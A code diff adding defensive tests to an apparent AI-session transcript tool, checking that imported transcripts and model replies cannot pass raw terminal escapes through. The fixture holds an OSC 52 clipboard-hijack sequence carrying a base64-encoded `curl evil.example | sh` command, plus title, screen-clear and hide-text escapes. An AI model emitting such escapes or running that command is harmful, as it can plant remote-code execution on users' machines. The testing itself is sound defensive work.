@@ -242,3 +242,72 @@ def test_mcp_http_answers_only_requests_with_this_starts_token(tmp_path):
         proc.terminate()
         proc.wait(timeout=30)
     assert not token_file.exists()  # the token dies with the server
+
+
+# --------------------------------------------------------------------------- terminal escapes
+CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: the clipboard becomes `curl evil.example | sh`
+ESCAPES = f"Reading it.{CLIPBOARD}\x1b]0;pwned title\x1b\\\x1b[2J\x1b[H\x9b2J\rhidden"
+RAW = ("\x1b", "\x07", "\x9b", "\r")
+
+
+def test_escapes_in_an_imported_transcript_are_shown_never_obeyed(tmp_path, servers):
+    fixture = Path(__file__).parents[1] / "fixtures" / "import" / "claude_session.jsonl"
+    root = tmp_path / "repo"
+    write_repo(root)
+    transcript = tmp_path / "hostile.jsonl"
+    transcript.write_text(fixture.read_text().replace('"Reading it."', json.dumps(ESCAPES))
+                          .replace('"Now fix it for real"', json.dumps("Now fix it " + ESCAPES)))
+    home = tmp_path / "home"
+    imported = run(root, home, "import", str(transcript), "--json")
+    assert imported.returncode == 0, imported.stderr
+    slug = json.loads(imported.stdout)[0]["sessions"][0]["slug"]
+
+    printed = {
+        "session show": run(root, home, "session", "show", slug),
+        "session show --raw": run(root, home, "session", "show", slug, "--raw"),
+        "session export": run(root, home, "session", "export", slug),
+        "session search": run(root, home, "session", "search", "Reading it"),
+        "replay --print": run(root, home, "replay", slug, "--print"),
+    }
+    attempts = len(printed) * len(RAW)
+    through = [(name, raw) for name, done in printed.items() for raw in RAW if raw in done.stdout + done.stderr]
+    print(f"escapes: {attempts} attempts (5 printing commands x 4 controls), {len(through)} got through {through}")
+    assert through == []
+    for name, done in printed.items():
+        assert done.returncode == 0, (name, done.stderr)
+        assert "^[]52;c;" in done.stdout, name  # shown, so the user sees what was there
+    exact = run(root, home, "session", "export", slug, "--format", "json")
+    assert any(record.get("content") == ESCAPES or ESCAPES in json.dumps(record, ensure_ascii=False)
+               for record in json.loads(exact.stdout)["records"])  # JSON keeps the text exact
+
+    good, _ = servers
+    user_config(home, good.url)
+    good.push(Reply(text=f"done {CLIPBOARD} \x1b[2J"))
+    chat = run(root, home, "chat", "hello")
+    assert chat.returncode == 0, chat.stderr
+    assert not any(raw in chat.stdout + chat.stderr for raw in RAW)
+    assert "done ^[]52;c;" in chat.stdout
+
+
+def test_the_app_shows_a_transcripts_escapes_as_text():
+    from workstation.tui.panes.turn_render import render_turn, shown
+    from workstation.tui.viewdata import Turn
+
+    turns = [Turn("assistant", ESCAPES), Turn("user", ESCAPES), Turn("notice", ESCAPES),
+             Turn("tool", tool="read_lines", args={"path": ESCAPES}, result=ESCAPES, diff=f"+{ESCAPES}\n")]
+    for turn in turns:
+        safe_turn = shown(turn)
+        for value in (safe_turn.text, safe_turn.result, safe_turn.diff):
+            assert not any(raw in value for raw in RAW)
+    from rich.console import Console
+
+    from workstation.tui.panes.turn_render import TurnStyles
+    from rich.style import Style
+
+    styles = TurnStyles(*([Style()] * len(TurnStyles._fields)))
+    console = Console(file=open(os.devnull, "w"), width=100, color_system=None, force_terminal=True)
+    for turn in turns:
+        for expanded in (False, True):
+            with console.capture() as captured:
+                console.print(render_turn(turn, expanded, 100, styles, dark=True))
+            assert not any(raw in captured.get() for raw in ("\x07", "\x9b", "]52;c;Y3Vy\x07", "\x1b]")), turn.role
